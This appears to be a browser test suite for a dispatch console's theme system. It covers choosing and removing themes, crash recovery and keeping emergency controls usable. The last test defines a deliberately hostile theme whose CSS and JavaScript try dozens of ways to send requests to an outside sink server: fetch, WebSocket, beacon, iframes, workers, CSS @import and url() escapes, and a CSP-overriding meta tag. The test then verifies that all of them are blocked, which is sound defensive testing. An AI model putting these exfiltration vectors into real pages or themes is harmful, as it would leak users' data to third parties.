// Themes on the real service: chosen, undone, failing, hostile. No request of theirs
// leaves the service, and whatever they do, the console can be used.
import assert from "node:assert/strict";
import { createServer } from "node:net";
import test from "node:test";
import { Desk } from "./browser.mjs";
import { accessible, largeEnough, picture } from "./eyes.mjs";
import { LiveWorld } from "./live.mjs";
import { masterToken } from "./service.mjs";
import { sha256, theme } from "./themes.mjs";
import { passes, until } from "./wait.mjs";

/** Installs a theme as an integration does, with what its review said. */
async function install(service, data) {
  const post = async (path) => {
    const answer = await fetch(service.url + path, { method: "POST", headers: { Authorization: `Bearer ${masterToken}`, "Content-Type": "application/zip" }, body: data });
    const reply = await answer.json();
    assert.ok(answer.ok, `${path}: ${answer.status} ${reply.error}`);
    return reply;
  };
  const review = await post("/api/themes/review");
  await post(`/api/themes/install${review.script ? `?js=${review.script.sha256}` : ""}`);
  return review;
}

const script = (slug, js, more = {}) => theme({ slug, name: slug, js, ...more });

/** A desk that has chosen a theme. */
function open(world, slug, callsign = "D-1", { safe = false, size, before = () => undefined, signIn = true } = {}) {
  const Kind = class extends Desk {
    path = safe ? "/?safe=1" : "/";
  };
  const desk = JSON.stringify({ first: "done", zoom: 1, settings: { theme: slug } });
  return Kind.open(world.browser, world.service, signIn ? callsign : null, size && { viewport: size }, async (page) => {
    await page.addInitScript((desk) => {
      if (sessionStorage.getItem("themes.kept")) return;
      sessionStorage.setItem("themes.kept", "yes");
      localStorage.setItem("squelch.desk", desk);
    }, desk);
    await before(page);
  });
}

const root = (desk) => desk.page.evaluate(() => ({
  classes: document.documentElement.className,
  x: document.documentElement.style.getPropertyValue("--x"),
  bare: document.documentElement.hasAttribute("data-bare"),
  sheets: document.querySelectorAll("link[data-theme]").length,
  boxes: document.querySelectorAll("[data-part=theme-container]").length,
}));
const clean = { classes: "", x: "", bare: false, sheets: 0, boxes: 0 };

async function choose(desk, label) {
  await desk.page.keyboard.press("Control+k");
  await desk.page.locator("[data-part=palette] input").fill("settings");
  await desk.page.keyboard.press("Enter");
  await desk.page.locator("[data-part=theme-choice]").selectOption({ label });
  await desk.page.keyboard.press("Escape");
}

/** Talks, hears, answers and closes an emergency. */
async function works(world, desk, radio) {
  await desk.page.keyboard.down("F2");
  await desk.ptt("TX");
  await desk.page.keyboard.up("F2");
  await desk.ptt("IDLE");
  await radio.talk(true);
  await desk.page.locator("[data-part=emergency-lane]", { hasText: "1 talking" }).waitFor();
  await radio.talk(false);
  await radio.panic(true);
  await desk.emergency(radio.name, "unacknowledged").waitFor();
  await desk.page.keyboard.press("F9"); // answers it
  await desk.emergency(radio.name, "acknowledged").waitFor();
  await desk.closeEmergency(radio.name, "Test");
}

test("a theme is chosen, remembered, swapped and undone", async (t) => {
  const world = await LiveWorld.start(t);
  await install(world.service, theme({ slug: "calm", name: "Calm", css: ":root { --sq-accent: #123456; }" }));
  const change = (n) => script("busy", `theme.setVar("--x", "${n}"); theme.addClass("busy"); theme.hideDefaultUI(); theme.getContainer().textContent = "Hello ${n}";
    const timer = setInterval(() => theme.addClass("late"), 10);
    onUnmount(() => { throw new Error("no"); });
    onUnmount(() => { window.unmounted = (window.unmounted ?? 0) + 1; });
    dispatch.on("dispatch:callsign", ({ callsign }) => theme.setVar("--y", JSON.stringify(callsign)));`);
  await install(world.service, change(1));
  const desk = await world.desk("D-1");

  await t.test("by the settings, with a mark for scripts", async () => {
    await choose(desk, "busy · JS");
    await desk.page.getByText("Hello 1").waitFor();
    assert.deepEqual(await root(desk), { classes: "theme-busy theme-late", x: "1", bare: true, sheets: 1, boxes: 1 });
  });
  await t.test("over a reload", async () => {
    await desk.page.reload();
    await desk.page.getByText("Hello 1").waitFor();
  });
  await t.test("a new build takes its place by itself", async () => {
    await install(world.service, change(2));
    await desk.page.getByText("Hello 2").waitFor();
    const { x, boxes, sheets } = await root(desk);
    assert.deepEqual([x, boxes, sheets], ["2", 1, 1]);
    assert.equal(await desk.page.evaluate(() => window.unmounted), 1);
  });
  await t.test("another undoes it, also when its cleanups throw", async () => {
    await choose(desk, "Calm");
    await until("the style is that of the other", () => desk.page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue("--sq-accent") === "#123456"));
    await passes(50, "its timer goes on, and does nothing");
    assert.deepEqual(await root(desk), { ...clean, sheets: 1 });
  });
  await t.test("by the palette, to none", async () => {
    await desk.page.keyboard.press("Control+k");
    await desk.page.locator("[data-part=palette] input").fill("no theme");
    await desk.page.keyboard.press("Enter");
    await until("it is gone", async () => (await root(desk)).sheets === 0);
  });
  await t.test("one that is removed while it is in use", async () => {
    await install(world.service, theme({ slug: "gone", name: "Gone", css: ".card { color: red; }" }));
    await choose(desk, "Gone");
    await until("it is there", async () => (await root(desk)).sheets === 1);
    await world.service.post("/api/themes/remove", { slug: "gone" });
    await desk.page.locator("[data-part=notice]", { hasText: "Theme Gone was removed" }).waitFor();
    assert.equal((await root(desk)).sheets, 0);
    await choose(desk, "No theme");
  });
  await t.test("the settings keep to their width beside the longest name of a theme", async () => {
    await install(world.service, theme({ slug: "long", name: "Wide Wide Wide Wide Wide Wide Wide Wide", css: ".card { color: red; }" }));
    await desk.page.setViewportSize({ width: 1366, height: 768 });
    await desk.button("Settings").click();
    await desk.page.locator("[data-part=theme-choice] option", { hasText: "Wide" }).waitFor({ state: "attached" });
    const over = await desk.page.locator("dialog [data-part=theme-choice]").evaluate((e) => {
      const form = e.closest(".form");
      return [form.scrollWidth - form.clientWidth, e.getBoundingClientRect().right - e.closest("label").getBoundingClientRect().right];
    });
    assert.deepEqual(over.map((x) => x > 0), [false, false], `${over} px too wide`);
    await desk.page.keyboard.press("Escape");
    await desk.page.getByRole("dialog").waitFor({ state: "detached" });
  });
  await t.test("the operator's default is for who has chosen none", async () => {
    const other = await world.desk("D-2");
    assert.equal((await root(other)).sheets, 0);
    await world.service.post("/api/themes/default", { slug: "calm" });
    await until("it has the default", async () => (await root(other)).sheets === 1);
    assert.equal((await root(desk)).sheets, 0);
    await other.account("Sign out");
    await other.page.getByLabel("Callsign").waitFor();
    assert.deepEqual(await root(other), clean);
    other.silent();
    await other.close();
  });
  desk.silent(/Theme busy: error in a cleanup/);
});

test("nobody sees a console without its theme first, and nobody waits for a theme that does not come", async (t) => {
  const world = await LiveWorld.start(t);
  await install(world.service, theme({ slug: "calm", name: "Calm", css: ":root { --sq-accent: #123456; }" }));
  const arrive = async (answer) => {
    let fetched = false;
    const desk = await open(world, "calm", "D-1", {
      signIn: false,
      before: async (page) => {
        page.on("requestfinished", (r) => (fetched ||= /Announcer-.*\.js$/.test(r.url())));
        await page.route("**/themes/calm/*/style.css", answer);
        await page.addInitScript(() => {
          localStorage.setItem("squelch.themed", "yes"); // the console before this one had a theme
          window.plain = 0;
          const look = () => {
            const card = document.querySelector("[data-part=channel-card]");
            const plain = card?.checkVisibility({ visibilityProperty: true }) && getComputedStyle(card).getPropertyValue("--sq-accent") !== "#123456";
            if (card) window.first ??= plain ? "plain" : "veiled or themed";
            if (plain) window.plain++;
            requestAnimationFrame(look);
          };
          look();
        });
      },
    });
    await until("what runs themes is there", () => fetched); // it comes while the dispatcher types
    await desk.signIn("D-1");
    await desk.card("MAIN").waitFor();
    return desk;
  };
  await t.test("a style sheet that takes a moment", async () => {
    const desk = await arrive((route) => passes(100, "a slow network").then(() => route.continue()));
    await until("it is there", async () => (await root(desk)).sheets === 1);
    // On a machine that is too busy to fetch it in time, it is seen plain for a while after that.
    assert.equal(await desk.page.evaluate(() => window.first), "veiled or themed");
    desk.silent();
    await desk.close();
  });
  await t.test("one that never comes", async () => {
    const desk = await arrive(() => undefined);
    await desk.speakOn("MAIN");
    assert.ok(await desk.page.evaluate(() => window.plain > 0));
    await desk.close();
  });
});

test("with the default UI hidden, emergencies, push-to-talk, link, settings and sign out stay, in every size", async (t) => {
  const world = await LiveWorld.start(t);
  await install(world.service, script("bare", `theme.hideDefaultUI(); theme.getContainer().innerHTML = "<h2>Bare</h2><button>Own</button>"; document.querySelector("[data-part=theme-container] button").onclick = () => theme.showDefaultUI();`));
  const radio = await world.radio(7, "Ana Ruiz");
  await radio.join("MAIN");
  for (const [width, height] of [[1440, 900], [1024, 700], [390, 844]]) {
    await t.test(`${width} × ${height}`, async () => {
      const desk = await open(world, "bare", "D-1", { size: { width, height }, signIn: false });
      await desk.signIn("D-1");
      await desk.page.getByText("Bare").waitFor();
      const part = (name) => desk.page.locator(`[data-part=${name}]`);
      for (const name of ["status-bar", "tools", "channels", "rail"]) await part(name).first().waitFor({ state: "hidden" });
      for (const name of ["emergency-lane", "ptt-bar", "theme-health", "theme-menu"]) await part(name).waitFor();
      // The container has all that is left: no track is empty.
      const boxes = await desk.page.evaluate(() => [...document.querySelector("[data-part=console]").children].map((e) => e.getBoundingClientRect()).filter((r) => r.height > 0).map((r) => [r.left, r.width, r.height]));
      const sum = (await desk.page.evaluate(() => ["emergency-lane", "theme-container", "ptt-bar", "theme-desk"].map((p) => document.querySelector(`[data-part=${p}]`).getBoundingClientRect().height))).reduce((a, b) => a + b);
      assert.ok(Math.abs(sum - height) <= 1, `the rows are ${sum} of ${height} px: ${JSON.stringify(boxes)}`);
      await accessible(desk.page, `bare at ${width}`);
      await largeEnough(desk.page, `bare at ${width}`);
      await picture(desk.page, `theme-bare-${width}`);
      // F6 goes through what is there.
      const seen = new Set();
      for (let i = 0; i < 5; i++) {
        await desk.page.keyboard.press("F6");
        seen.add(await desk.page.evaluate(() => document.activeElement.closest("[data-part=emergency-lane], [data-part=theme-container], [data-part=ptt-bar], [data-part=theme-desk]")?.dataset.part ?? document.activeElement.outerHTML.slice(0, 80)));
      }
      assert.deepEqual([...seen].sort(), ["emergency-lane", "ptt-bar", "theme-container", "theme-desk"]);
      await desk.page.evaluate(() => document.activeElement.blur());
      await radio.panic(true);
      await desk.emergency("Ana Ruiz", "unacknowledged").waitFor();
      await desk.page.keyboard.press("F9");
      await desk.emergency("Ana Ruiz", "acknowledged").waitFor();
      await accessible(desk.page, `bare with an emergency at ${width}`);
      await desk.closeEmergency("Ana Ruiz", "Test");
      await part("theme-menu").click();
      const menu = await part("menu").boundingBox();
      const by = await part("theme-menu").boundingBox();
      assert.ok(menu.y + menu.height <= by.y, `the menu (${JSON.stringify(menu)}) covers its button (${JSON.stringify(by)}): a second click would sign out`);
      await desk.page.getByRole("menuitem", { name: "Settings", exact: true }).click();
      await desk.page.getByRole("dialog").waitFor();
      await desk.page.keyboard.press("Escape");
      await desk.button("Own").click();
      for (const name of ["status-bar", "channels"]) await part(name).waitFor();
      await part("theme-desk").waitFor({ state: "detached" });
      await accessible(desk.page, `a container beside the default UI at ${width}`);
      await desk.page.evaluate(() => document.documentElement.setAttribute("data-bare", ""));
      await part("theme-menu").click();
      await desk.page.getByRole("menuitem", { name: "Sign out", exact: true }).click();
      await desk.page.getByLabel("Callsign").waitFor();
      assert.deepEqual(await root(desk), clean);
      desk.silent();
      await desk.close();
    });
  }
});

test("a dispatcher's first run comes before a theme that hides the console", async (t) => {
  const world = await LiveWorld.start(t);
  await install(world.service, script("bare", `theme.hideDefaultUI(); theme.getContainer().innerHTML = "<h2>Bare</h2>";`, { css: ".theme-none { color: red; }" }));
  await world.service.post("/api/themes/default", { slug: "bare" });
  const desk = await Desk.open(world.browser, world.service, null, { fresh: true });
  await desk.signIn("D-1");
  const wizard = desk.page.locator("[data-part=onboarding]");
  await wizard.waitFor();
  await until("the theme has started", async () => (await root(desk)).bare);
  await desk.page.getByRole("heading", { name: "Bare" }).waitFor({ state: "hidden" });
  assert.ok(await wizard.isVisible());
  await accessible(desk.page, "first run over a theme");
  await desk.button("Skip setup").click();
  await desk.page.getByRole("heading", { name: "Bare" }).waitFor();
  await desk.page.locator("[data-part=channels]").waitFor({ state: "hidden" });
  desk.silent();
});

test("a theme that throws wherever it can leaves the console usable, and is told of once", async (t) => {
  const world = await LiveWorld.start(t);
  await install(world.service, script("bad", `
    const bang = (where) => { throw new Error("bang in " + where); };
    for (const event of ["zones", "ptt", "channel", "channel-ptt", "voice-status", "connection", "alerts", "alert-types", "scans", "patches", "transmissions", "callsign", "announcement-group", "settings"])
      { dispatch.on("dispatch:" + event, () => bang(event)); dispatch.on("dispatch:" + event, async () => bang(event + ", later")); }
    setInterval(() => bang("a timer"), 50);
    addEventListener("keydown", () => bang("a key"));
    onUnmount(() => bang("the end"));
    dispatch.on("dispatch:ptt", ({ active }) => document.documentElement.setAttribute("data-heard", active));
    dispatch.on("dispatch:nothing", () => 0); dispatch.updateSettings({ voiceVolume: "loud" }); theme.setVar("bad", 1); theme.addClass("1");`));
  const desk = await open(world, "bad", "D-1", { signIn: false });
  await desk.signIn("D-1");
  const notice = desk.page.locator("[data-part=notice]", { hasText: "Error in theme bad" });
  await notice.waitFor();
  await until("more errors", () => desk.complaints.filter((c) => /bang in a timer/.test(c)).length > 5);
  assert.ok((await notice.count()) <= 1, "told more than once");
  await desk.ready();
  await desk.speakOn("MAIN");
  const radio = await world.radio(7, "Ana Ruiz");
  await radio.join("MAIN");
  await works(world, desk, radio);
  assert.equal(await desk.page.evaluate(() => document.documentElement.getAttribute("data-heard")), "false");
  const told = desk.complaints.filter((c) => /bang in/.test(c));
  for (const where of ["zones", "ptt", "a timer", "a key"]) assert.ok(told.some((c) => c.includes(`bang in ${where}`)), `${where} was not reported`);
  await choose(desk, "No theme");
  await until("it is gone", async () => (await root(desk)).sheets === 0);
  desk.silent(/bang in/, /Theme bad: /);
});

test("a theme that fails twice is switched off, until it is tried again or has another build", async (t) => {
  const world = await LiveWorld.start(t);
  const notice = (desk, text) => desk.page.locator("[data-part=notice]", { hasText: text }).waitFor();
  const off = "was switched off: it failed twice";
  const kinds = {
    throws: [`theme.addClass("x"); theme.hideDefaultUI(); throw new Error("bang");`, "bang"],
    garbage: ["this is no (JavaScript", "not valid JavaScript"],
  };
  for (const [slug, [js, why]] of Object.entries(kinds)) {
    await t.test(slug, async () => {
      await install(world.service, script(slug, js));
      const desk = await open(world, slug);
      await notice(desk, `Theme ${slug} did not start`);
      await notice(desk, why);
      assert.deepEqual(await root(desk), clean);
      await desk.button("Settings").click();
      assert.match(await desk.page.locator("[data-part=theme-off] span").innerText(), new RegExp(`^${slug} did not start\\. Its script`));
      await desk.page.reload();
      await notice(desk, off);
      await desk.page.reload();
      await notice(desk, off);
      assert.equal((await root(desk)).sheets, 0);
      await desk.button("Settings").click();
      await desk.page.locator("[data-part=theme-off]", { hasText: "is switched off: it failed twice." }).filter({ hasText: why }).waitFor();
      await install(world.service, script(slug, `theme.addClass("well");`));
      await until("the new build runs", async () => (await root(desk)).classes === "theme-well");
      await desk.page.locator("[data-part=theme-off]").waitFor({ state: "detached" });
      desk.silent(/bang|^page error: $/);
      await desk.close();
    });
  }
  await t.test("try again", async () => {
    await install(world.service, script("again", `if (!window.repaired) throw new Error("bang"); theme.addClass("well");`));
    const desk = await open(world, "again");
    await notice(desk, "did not start");
    await desk.page.reload();
    await notice(desk, off);
    await desk.page.evaluate(() => (window.repaired = true));
    await desk.button("Settings").click();
    await desk.button("Try again").click();
    await until("it runs", async () => (await root(desk)).classes === "theme-well");
    desk.silent(/bang/);
    await desk.close();
  });
  await t.test("what is said of it is said once, as it is now", async () => {
    await install(world.service, script("once", `throw new Error("bang");`));
    const desk = await open(world, "once");
    // A notice goes by itself after a while: not while the clock stands still.
    await desk.page.evaluate(() => {
      const at = Date.now();
      Date.now = () => at;
    });
    const said = () => desk.page.locator("[data-part=notice]", { hasText: "Theme once" }).locator("strong").allTextContents();
    await notice(desk, "did not start");
    await desk.button("Settings").click();
    await desk.page.locator("[data-part=theme-choice]").selectOption({ label: "No theme" });
    await until("nothing is said of it", async () => (await said()).length === 0);
    await desk.page.locator("[data-part=theme-choice]").selectOption({ label: "once · JS" });
    await notice(desk, off);
    await desk.button("Try again").click();
    await notice(desk, "did not start");
    await until("only that is said", async () => (await said()).join() === "Theme once did not start");
    await desk.page.locator("[data-part=theme-choice]").selectOption({ label: "No theme" });
    await until("nothing is said of it", async () => (await said()).length === 0);
    desk.silent(/bang/);
    await desk.close();
  });
  await t.test("a page that dies of it counts", async () => {
    await install(world.service, script("loop", `for (;;) {}`));
    const desk = await open(world, "loop", "D-1", { signIn: false });
    await desk.signIn("D-1");
    for (let i = 0; i < 2; i++) {
      await until("it hangs", async () => (await Promise.race([desk.page.evaluate(() => 1), passes(1_500, "the page answers or hangs").then(() => 2)])) === 2);
      await passes(5_000, "another tab may be starting it for so long");
      // As a user does: the tab is closed, and another one opened.
      const hangs = desk.page;
      desk.page = await desk.context.newPage();
      await hangs.close();
      await desk.page.goto(world.service.url);
    }
    await notice(desk, off);
    await desk.card("MAIN").waitFor();
    await desk.close();
  });
  await t.test("leaving the page while it starts does not", async () => {
    await install(world.service, script("slow", `theme.addClass("slow");`));
    const desk = await open(world, "slow");
    for (let i = 0; i < 4; i++) {
      await until("it runs", async () => (await root(desk)).classes === "theme-slow");
      await desk.page.reload();
    }
    await until("it runs", async () => (await root(desk)).classes === "theme-slow");
    desk.silent();
    await desk.close();
  });
});

test("?safe=1 starts without themes, and the settings say so", async (t) => {
  const world = await LiveWorld.start(t);
  await install(world.service, script("loud", `theme.addClass("loud");`));
  await world.service.post("/api/themes/default", { slug: "loud" });
  const desk = await open(world, "loud", "D-1", { safe: true });
  await desk.button("Settings").click();
  await desk.page.locator("[data-part=theme-safe]").waitFor();
  assert.deepEqual(await root(desk), clean);
  desk.silent();
});

test("nothing that a hostile theme does leaves the service", async (t) => {
  const world = await LiveWorld.start(t);
  // Whatever says something here has left. Chromium connects, without a word, for a frame
  // and a form that the page's policy then refuses, as it does for rel=preconnect.
  const arrivals = [];
  const sink = createServer((s) => {
    s.on("data", (d) => arrivals.push(String(d).split("\r\n")[0]));
    s.on("error", () => undefined);
  });
  await new Promise((give) => sink.listen(0, "127.0.0.1", give));
  t.after(() => sink.close());
  const away = `http://127.0.0.1:${sink.address().port}`;
  const css = `@import "${away}/import.css"; @\\69mport url(${away}/import2.css);
    @font-face { font-family: Evil; src: url("${away}/font.woff2"); }
    body { font-family: Evil, sans-serif; background: url(${away}/body.png); cursor: url('${away}/cursor.png'), auto; }
    body::after { content: u\\72l(${away}/after.png); background: image-set("${away}/set.png" 1x); }
    :root { --far: url(${away}/var.png); } .card { background-image: var(--far); border-image: url("${away.replace("http:", "")}/border.png") 1; list-style: url(${away}/list.png); mask: url(${away}/mask.svg#x); filter: url(${away}/filter.svg#x); }`;
  const js = `
    const away = ${JSON.stringify(away)};
    window.tried = [];
    const attempt = (name, f) => { window.tried.push(name); try { const p = f(); if (p && p.catch) p.catch(() => {}); } catch {} };
    const add = (tag, more, parent) => { const e = document.createElement(tag); Object.assign(e, more); (parent ?? document.body).append(e); return e; };
    attempt("fetch", () => fetch(away + "/fetch"));
    attempt("fetch no-cors", () => fetch(away + "/fetch2", { mode: "no-cors", keepalive: true }));
    attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", away + "/xhr"); x.send("x"); });
    attempt("websocket", () => new WebSocket(away.replace("http", "ws") + "/ws"));
    attempt("eventsource", () => new EventSource(away + "/es"));
    attempt("beacon", () => navigator.sendBeacon(away + "/beacon", "x"));
    attempt("image", () => { new Image().src = away + "/image.png"; });
    attempt("img", () => add("img", { src: away + "/img.png" }));
    attempt("svg image", () => { document.body.insertAdjacentHTML("beforeend", '<svg><image href="' + away + '/svg.png"/><use href="' + away + '/use.svg#x"/></svg>'); });
    attempt("font", () => new FontFace("Evil2", "url(" + away + "/font2.woff2)").load());
    attempt("audio", () => new Audio(away + "/audio.mp3").play());
    attempt("video", () => add("video", { src: away + "/video.mp4", poster: away + "/poster.png", preload: "auto" }));
    attempt("frame", () => add("iframe", { src: away + "/frame" }));
    attempt("frame with a document", () => add("iframe", { srcdoc: '<img src="' + away + '/inner.png">' }));
    attempt("object", () => add("object", { data: away + "/object" }));
    attempt("embed", () => add("embed", { src: away + "/embed" }));
    attempt("form", () => add("form", { action: away + "/form", method: "post", target: "_self" }).submit());
    attempt("script", () => add("script", { src: away + "/script.js" }));
    attempt("inline script", () => add("script", { textContent: "fetch('" + away + "/inline')" }));
    attempt("import", () => import(away + "/module.js"));
    attempt("worker", () => new Worker(away + "/worker.js"));
    attempt("worker of a blob", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + away + "/blob')"]))));
    attempt("service worker", () => navigator.serviceWorker.register(away + "/sw.js"));
    attempt("worklet", () => new AudioContext().audioWorklet.addModule(away + "/worklet.js"));
    for (const rel of ["stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest", "prerender"])
      attempt("link " + rel, () => add("link", { rel, href: away + "/link-" + rel, as: "script" }, document.head));
    attempt("style", () => add("style", { textContent: "@import '" + away + "/style.css'; body { background: url(" + away + "/style.png) }" }, document.head));
    attempt("sheet", () => { const s = new CSSStyleSheet(); s.replaceSync(".card { background: url(" + away + "/sheet.png) }"); document.adoptedStyleSheets.push(s); });
    attempt("attribute", () => document.body.setAttribute("style", "background: url(" + away + "/attribute.png)"));
    attempt("variable", () => theme.setVar("--evil", "url(" + away + "/setvar.png)"));
    attempt("meta", () => add("meta", { httpEquiv: "Content-Security-Policy", content: "default-src *" }, document.head));
    attempt("base", () => add("base", { href: away }, document.head));
    attempt("ping", () => { const a = add("a", { href: "#", ping: away + "/ping" }); a.click(); });
    attempt("eval", () => eval("fetch('" + away + "/eval')"));
    attempt("speculation rules", () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [away + "/speculate"] }] }) }));
    attempt("report", () => new ReportingObserver(() => 0).observe());
    theme.getContainer().innerHTML = '<p>Hostile</p><img src="' + away + '/inner.png"><div style="background: url(' + away + '/div.png)">x</div>';
    theme.addClass("ran");`;
  const review = await install(world.service, theme({ slug: "evil", name: "Evil", css, js }));
  assert.ok(review.removed.length >= 8, `the review tells of ${review.removed.length} removals`);
  const asked = [];
  const desk = await open(world, "evil", "D-1", {
    before: (page) => {
      page.on("request", (r) => asked.push(r.url()));
      page.on("websocket", (s) => asked.push(s.url()));
    },
  });
  await until("it ran", async () => (await root(desk)).classes.includes("theme-ran"));
  await passes(3_000, "what would leave has the time to");
  assert.ok((await desk.page.evaluate(() => window.tried.length)) >= 35);
  const own = new URL(world.service.url).host;
  // What the page asks for and its policy refuses is never sent: only what has no answer of the policy may be here.
  const sent = asked.filter((u) => !/^(data|blob):/.test(u) && new URL(u).host !== own);
  assert.deepEqual(arrivals, [], `the sink was reached; asked for ${sent}`);
  const radio = await world.radio(7, "Ana Ruiz");
  await desk.speakOn("MAIN");
  await radio.join("MAIN");
  await works(world, desk, radio);
  // The sink does hear who reaches it.
  await fetch(`${away}/me`, { signal: AbortSignal.timeout(1_000) }).catch(() => undefined);
  assert.ok(arrivals.includes("GET /me HTTP/1.1"));
  await desk.close();
});
